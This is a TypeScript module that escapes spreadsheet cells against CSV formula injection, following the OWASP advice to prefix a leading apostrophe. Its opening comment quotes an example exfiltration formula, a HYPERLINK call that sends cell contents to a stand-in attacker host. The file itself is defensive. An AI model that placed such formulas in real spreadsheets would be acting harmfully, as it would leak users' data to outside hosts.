// Text that goes into a spreadsheet (every CSV, TSV and XLSX the app writes) must never be taken
// for a formula: a commentary `=HYPERLINK("http://evil.test/?leak="&A1,"Click")` would run in the
// analyst's spreadsheet. As OWASP advises for CSV injection, a cell that starts as a formula can
// start (= + - @, tab, carriage return) is written with a leading apostrophe, which spreadsheets
// read as "this is text". A figure that is a plain number is a number, and stays as it is.
import { stringify, type Input, type Options } from "csv-stringify/sync";

/**
 * A figure as the report writes one: an optional minus, digits (thousands grouped by commas, in
 * threes), optional decimals, an optional percent sign: `-3`, `-1.5`, `2,424`, `-2.5%`. Nothing
 * else, so nothing that calls, refers or concatenates; `+3` is text, as the app never writes it.
 */
const PLAIN_NUMBER = /^-?(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?%?$/;

/**
 * What needs the apostrophe: text a spreadsheet could take for a formula, and text that already
 * starts with apostrophes before one of those characters (so that removing exactly one apostrophe
 * on import gives back exactly what was written, whatever it was).
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;

export const isPlainNumber = (text: string): boolean => PLAIN_NUMBER.test(text);

const needsApostrophe = (text: string) => FORMULA_START.test(text) && !isPlainNumber(text);

/** The text as a spreadsheet cell: with a leading apostrophe if it could be read as a formula. */
export const spreadsheetCell = (text: string): string => (needsApostrophe(text) ? `'${text}` : text);

/** The text a cell written by `spreadsheetCell` holds: its apostrophe removed, anything else as it is. */
export const fromSpreadsheetCell = (cell: string): string => (cell.startsWith("'") && needsApostrophe(cell.slice(1)) ? cell.slice(1) : cell);

/** CSV or TSV (with `delimiter`) whose every text cell is safe to open in a spreadsheet. */
export function writeSpreadsheetText(records: Input, options: Omit<Options, "cast"> = {}): string {
  return stringify(records, { ...options, cast: { string: spreadsheetCell } });
}
